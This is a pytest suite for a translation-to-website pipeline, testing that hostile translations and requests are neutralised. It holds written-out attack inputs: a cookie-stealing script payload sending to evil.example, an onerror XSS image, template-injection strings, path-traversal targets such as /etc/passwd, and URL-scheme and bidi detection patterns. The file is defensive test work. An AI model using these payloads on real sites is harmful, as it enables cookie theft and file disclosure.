"""Hostile translations, hostile paths and the a11y server: nothing a translator writes runs.

The corpus (``tests/corpus/hostile/cases.toml``) puts one hostile msgstr on each of 30
messages of ``tests/corpus/hostile/root`` (whose Spanish catalog is otherwise harmless).
``pipeline check`` must report each injection as an error on its entry, and the rendered
site must be, element for element, the harmless site: every element and attribute of
the hostile pages appears in the harmless rendering, in the all-English fallback
rendering, or is inline Markdown a translation may use (emphasis, code, a line break,
no attributes); every ``href`` and ``src`` is the same multiset as in the harmless site.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tomllib
from collections import Counter
from dataclasses import dataclass, field, replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from conftest import run_cli

from pipeline.infra.server import HOST, StaticServer
from pipeline.po.reader import read_po
from pipeline.po.writer import write_po

HOSTILE = Path(__file__).parent / "corpus" / "hostile"
CASES: dict[str, dict[str, Any]] = tomllib.loads((HOSTILE / "cases.toml").read_text("utf-8"))
ES = "locales/es/LC_MESSAGES/messages.po"
# What Markdown may turn a translation's text into, with no attributes at all.
INLINE_MARKDOWN = {("em", None), ("strong", None), ("code", None), ("br", None), ("s", None)}
INVISIBLE = re.compile("[\u202a-\u202e\u2066-\u2069\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
SCRIPT_URL = re.compile(r"^\s*(javascript|vbscript|data|file):", re.I)


def msgstr(case: dict[str, Any]) -> str:
    return str(case["msgstr"]) * int(case.get("repeat", 1))


def copy_root(tmp: Path, name: str, translations: dict[str, str] | None,
              empty: bool = False) -> Path:
    """The corpus root with some msgstrs replaced (or all emptied)."""
    root = tmp / name
    shutil.copytree(HOSTILE / "root", root)
    path = root / ES
    catalog = read_po(path, ES)
    entries = []
    for entry in catalog.entries:
        if empty:
            entry = replace(entry, msgstr="", msgstr_plural=("",) * len(entry.msgstr_plural))
        elif translations and entry.msgid in translations:
            entry = replace(entry, msgstr=translations[entry.msgid])
        entries.append(entry)
    write_po(replace(catalog, entries=tuple(entries)), path, ES)
    if empty:  # publish the all-English fallback page anyway
        with (root / "pyproject.toml").open("a", encoding="utf-8") as handle:
            handle.write("\n[tool.pipeline.language.es]\ncompleteness = 0\n")
    return root


@pytest.fixture(scope="module")
def roots(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    tmp = tmp_path_factory.mktemp("hostile")
    hostile = copy_root(tmp, "hostile", {c["msgid"]: msgstr(c) for c in CASES.values()})
    harmless = copy_root(tmp, "harmless", None)
    fallback = copy_root(tmp, "fallback", None, empty=True)
    for root in (hostile, harmless, fallback):
        done = run_cli(root, "render")
        assert done.returncode == 0, done.stdout + done.stderr
    return {"hostile": hostile, "harmless": harmless, "fallback": fallback}


# --- the corpus ---------------------------------------------------------------------------

def test_corpus_has_twenty_distinct_attacks_on_real_messages() -> None:
    assert len(CASES) >= 20
    msgids = [c["msgid"] for c in CASES.values()]
    assert len(set(msgids)) == len(msgids), "one case per message"
    template = {e.msgid for e in read_po(HOSTILE / "root/locales/messages.pot", "pot").entries}
    assert set(msgids) <= template, set(msgids) - template


@pytest.fixture(scope="module")
def check_report(roots: dict[str, Path]) -> tuple[dict[str, list[tuple[str, str]]], str]:
    root = roots["hostile"]
    done = run_cli(root, "check", "--json")
    assert done.returncode == 1, done.stderr
    lines = {e.line: e.msgid for e in read_po(root / ES, ES).entries}
    case_of = {c["msgid"]: name for name, c in CASES.items()}
    found: dict[str, list[tuple[str, str]]] = {}
    for finding in json.loads(done.stdout)["findings"]:
        path, _, line = finding["location"].rpartition(":")
        assert path == ES, finding
        name = case_of[lines[int(line)]]
        found.setdefault(name, []).append((finding["severity"], finding["code"]))
    terminal = run_cli(root, "check")
    return found, terminal.stdout + terminal.stderr


def test_the_harmless_catalog_has_no_errors(roots: dict[str, Path]) -> None:
    done = run_cli(roots["harmless"], "check")
    assert done.returncode == 0 and "qa: 0 errors, 0 warnings" in done.stdout, done.stdout


@pytest.mark.parametrize("name", sorted(CASES))
def test_check_reports_the_injection(
        name: str, check_report: tuple[dict[str, list[tuple[str, str]]], str]) -> None:
    found = check_report[0].get(name, [])
    errors = {code for severity, code in found if severity == "error"}
    warnings = {code for severity, code in found if severity == "warning"}
    assert errors == set(CASES[name]["errors"]), found
    assert set(CASES[name].get("warnings", [])) <= warnings, found


def test_check_output_carries_no_invisible_characters(
        check_report: tuple[dict[str, list[tuple[str, str]]], str]) -> None:
    """Findings quote translations: a bidi override or an escape sequence would reach the
    terminal or CI log (Trojan Source there) if quoted raw."""
    shown = check_report[1]
    assert "U+202E RIGHT-TO-LEFT OVERRIDE" in shown
    assert not INVISIBLE.search(shown), [hex(ord(c)) for c in INVISIBLE.findall(shown)]


# --- the rendered site ----------------------------------------------------------------------

@dataclass
class Page:
    pairs: set[tuple[str, str | None]] = field(default_factory=set)  # (tag, attribute)
    urls: Counter[tuple[str, str]] = field(default_factory=Counter)  # (attribute, value)
    tags: Counter[str] = field(default_factory=Counter)
    text: list[str] = field(default_factory=list)


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.page = Page()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.page.tags[tag] += 1
        self.page.pairs.add((tag, None))
        for name, value in attrs:
            self.page.pairs.add((tag, name))
            if name in ("href", "src", "action", "formaction", "srcset", "poster", "data"):
                self.page.urls[(name, value or "")] += 1

    def handle_data(self, data: str) -> None:
        self.page.text.append(data)


def parse(path: Path) -> Page:
    collector = _Collect()
    collector.feed(path.read_text("utf-8"))
    collector.close()
    return collector.page


def html_files(root: Path) -> dict[str, Page]:
    build = root / "output/build"
    return {p.relative_to(build).as_posix(): parse(p) for p in sorted(build.rglob("*.html"))}


def test_the_same_files_are_rendered(roots: dict[str, Path]) -> None:
    assert html_files(roots["hostile"]).keys() == html_files(roots["harmless"]).keys()
    assert "es/visit.html" in html_files(roots["hostile"])


def test_no_element_or_attribute_beyond_the_template_and_markdown(
        roots: dict[str, Path]) -> None:
    hostile, harmless = html_files(roots["hostile"]), html_files(roots["harmless"])
    fallback = html_files(roots["fallback"])
    for name, page in hostile.items():
        allowed = harmless[name].pairs | fallback.get(name, Page()).pairs | INLINE_MARKDOWN
        assert page.pairs <= allowed, (name, sorted(page.pairs - allowed, key=str))
        for tag in ("script", "iframe", "style", "object", "embed", "svg", "meta", "form"):
            assert page.tags[tag] == harmless[name].tags[tag], (name, tag)
        assert not any(attr and attr.startswith("on") for _, attr in page.pairs), name
        assert not any(attr == "style" for _, attr in page.pairs), name


def test_every_url_is_the_sources(roots: dict[str, Path]) -> None:
    """Each href/src is one the harmless page has too: from the source, never the
    translation (a translation that drops a link loses it: that is 'link-missing')."""
    hostile, harmless = html_files(roots["hostile"]), html_files(roots["harmless"])
    for name, page in hostile.items():
        assert not page.urls - harmless[name].urls, (name, page.urls - harmless[name].urls)
        for _, value in page.urls:
            assert not SCRIPT_URL.match(value) and "evil.example" not in value, value
    dropped = harmless["es/visit.html"].urls - hostile["es/visit.html"].urls
    assert dropped == Counter({("href", u): 1 for u in (
        "/forms/referral/", "/privacy/", "/hours/", "/payments/", "/news/")}), dropped


def test_no_bidi_or_control_character_reaches_the_html(roots: dict[str, Path]) -> None:
    for path in (roots["hostile"] / "output/build").rglob("*.html"):
        text = path.read_text("utf-8")
        assert not INVISIBLE.search(text), (path, [hex(ord(c)) for c in INVISIBLE.findall(text)])


def test_hostile_text_is_shown_as_text(roots: dict[str, Path]) -> None:
    page = parse(roots["hostile"] / "output/build/es/visit.html")
    text = "".join(page.text)
    assert "<script>fetch('https://evil.example/?c='+document.cookie)</script>" in text
    assert '<img src=x onerror="alert(1)">' in text
    assert "<script>alert(1)</script>" in text  # decoded from &lt;script&gt;: still text
    assert "Su visita</title><script>alert(1)</script>" in text  # the H1
    assert page.tags["title"] == 1 and page.tags["h1"] == 1


def test_template_syntax_in_a_translation_is_never_evaluated(roots: dict[str, Path]) -> None:
    page = parse(roots["hostile"] / "output/build/es/visit.html")
    text = "".join(page.text)
    assert "{% for i in range(999999999) %}Una lista de sus medicamentos{% endfor %}" in text
    assert text.count("Una lista de sus medicamentos") == 1
    assert "{{ config." in text and "La clínica tiene acceso sin escalones." in text
    assert "<class" not in text and "__globals__" not in text.replace("globals", "")


def test_abused_placeholders_fall_back_to_the_english_template_text(
        roots: dict[str, Path]) -> None:
    path = roots["hostile"] / "output/build/es/visit.html"
    text = "".join(parse(path).text)
    assert "Back to " in text and "Volver a" not in text
    assert "Last updated: " in text and "Última actualización" not in text
    assert path.stat().st_size < 2_000_000  # no 999,999,999-wide padding


# --- paths ---------------------------------------------------------------------------------

@pytest.mark.parametrize(("args", "first_line"), [
    (("render", "--page", "../../etc/passwd"),
     "source/pages: no page with slug '../../etc/passwd'"),
    (("render", "--page", "/etc/passwd"), "source/pages: no page with slug '/etc/passwd'"),
    (("readability", "--page", "../visit"), "source/pages: no page with slug '../visit'"),
    (("a11y", "../../pyproject.toml"), "not a page path: '../../pyproject.toml'"),
    (("a11y", "es/../../../pyproject.toml"), "not a page path: 'es/../../../pyproject.toml'"),
    (("status", "../es"), "unknown locale code '../es'"),
    (("compile", "/etc"), "unknown locale code '/etc'"),
    (("init", "es/../../x"), "unknown locale code 'es/../../x'"),
    (("translate", "../es", "--engine", "tm"), "unknown locale code '../es'"),
])
def test_paths_out_of_the_root_are_refused(tmp_path: Path, args: tuple[str, ...],
                                           first_line: str) -> None:
    root = tmp_path / "root"
    shutil.copytree(HOSTILE / "root", root)
    done = run_cli(root, *args)
    assert done.returncode == 1, done.stdout + done.stderr
    assert done.stderr.splitlines()[0] == first_line, done.stderr
    assert "  hint: " in done.stderr and "Traceback" not in done.stderr


# --- the a11y server -----------------------------------------------------------------------

def raw_get(port: int, target: str) -> int:
    """The status for a request line sent byte for byte (no client-side normalizing)."""
    with socket.create_connection((HOST, port), timeout=10) as conn:
        conn.sendall(f"GET {target} HTTP/1.1\r\nHost: {HOST}\r\nConnection: close\r\n\r\n"
                     .encode("latin-1"))
        head = b""
        while b"\r\n" not in head:
            chunk = conn.recv(1024)
            if not chunk:
                break
            head += chunk
    return int(head.split(b" ", 2)[1])


@pytest.fixture
def served_root(tmp_path: Path) -> Path:
    """A content root after render, with a symlink inside the build pointing out."""
    root = tmp_path / "root"
    shutil.copytree(HOSTILE / "root", root)
    assert run_cli(root, "render").returncode == 0
    (root / "output/reports").mkdir(parents=True)
    (root / "output/reports/a11y.html").write_text("<p>report</p>", "utf-8")
    os.symlink("../../../pyproject.toml", root / "output/build/es/config.html")
    os.symlink("../../source", root / "output/build/es/source")
    return root


ESCAPES = ["/../pyproject.toml", "/../../pyproject.toml", "/%2e%2e/pyproject.toml",
           "/%2E%2E/%2E%2E/pyproject.toml", "/..%2fpyproject.toml", "/%2e%2e%2fpyproject.toml",
           "/es/..%2f..%2fpyproject.toml", "/..\\pyproject.toml", "/%5c..%5cpyproject.toml",
           "/%252e%252e/pyproject.toml", "//etc/passwd", "/%2fetc%2fpasswd",
           "/es/config.html", "/es/source/pages/visit.md", "/../reports/a11y.html",
           "/es/visit.html%00.txt", "http://127.0.0.1/../pyproject.toml",
           "/../source/pages/visit.md", "/.%2e/pyproject.toml"]


def test_the_server_serves_only_its_folder(served_root: Path) -> None:
    build = served_root / "output/build"
    with StaticServer(build, "output/build") as server:
        host, port = server._server.server_address[:2]  # type: ignore[union-attr]
        assert host == "127.0.0.1"
        assert raw_get(port, "/es/visit.html") == 200
        assert raw_get(port, "/index.html") == 200
        for target in ESCAPES:
            assert raw_get(port, target) in (400, 403, 404), target
    with StaticServer(served_root / "output/reports", "output/reports") as server:
        port = server._server.server_address[1]  # type: ignore[union-attr]
        assert raw_get(port, "/a11y.html") == 200
        for target in ("/../build/es/visit.html", "/%2e%2e/build/index.html",
                       "/../../pyproject.toml"):
            assert raw_get(port, target) in (400, 403, 404), target


def test_the_server_is_not_reachable_from_other_addresses(served_root: Path) -> None:
    """Bound to 127.0.0.1, not 0.0.0.0: another local address gets no answer."""
    others = [a for a in _local_addresses() if not a.startswith("127.")]
    with StaticServer(served_root / "output/build", "output/build") as server:
        port = server._server.server_address[1]  # type: ignore[union-attr]
        probe = ["127.0.0.2", *others]
        for address in probe:
            with pytest.raises(OSError), socket.create_connection((address, port), timeout=3):
                pass


def _local_addresses() -> list[str]:
    done = subprocess.run(["hostname", "-I"], capture_output=True, text=True)
    return done.stdout.split() if done.returncode == 0 else []


def test_the_server_answers_only_get_and_head(served_root: Path) -> None:
    with StaticServer(served_root / "output/build", "output/build") as server:
        port = server._server.server_address[1]  # type: ignore[union-attr]
        for method in ("POST", "PUT", "DELETE"):
            with socket.create_connection((HOST, port), timeout=10) as conn:
                conn.sendall(f"{method} /es/visit.html HTTP/1.1\r\nHost: x\r\n"
                             "Content-Length: 0\r\nConnection: close\r\n\r\n".encode())
                status = int(conn.recv(1024).split(b" ", 2)[1])
            assert status in (405, 501), (method, status)
        assert (served_root / "output/build/es/visit.html").is_file()
    assert sys.platform.startswith("linux")
